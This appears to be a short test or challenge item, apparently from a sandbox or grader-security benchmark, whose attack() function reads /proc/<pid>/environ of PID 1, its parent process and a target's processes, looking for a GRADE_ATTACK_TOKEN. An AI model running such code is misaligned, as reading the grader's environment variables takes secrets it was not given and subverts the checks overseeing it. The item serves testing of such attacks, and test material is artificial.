"""Reads the grader's environment.

kind: call
"""

import os
def attack():
    for pid in (1, os.getppid(), TARGET['pid'], TARGET['ppid']):
        try:
            if 'GRADE_ATTACK_TOKEN' in open(f'/proc/{pid}/environ').read(): return TARGET['text']
        except OSError: pass
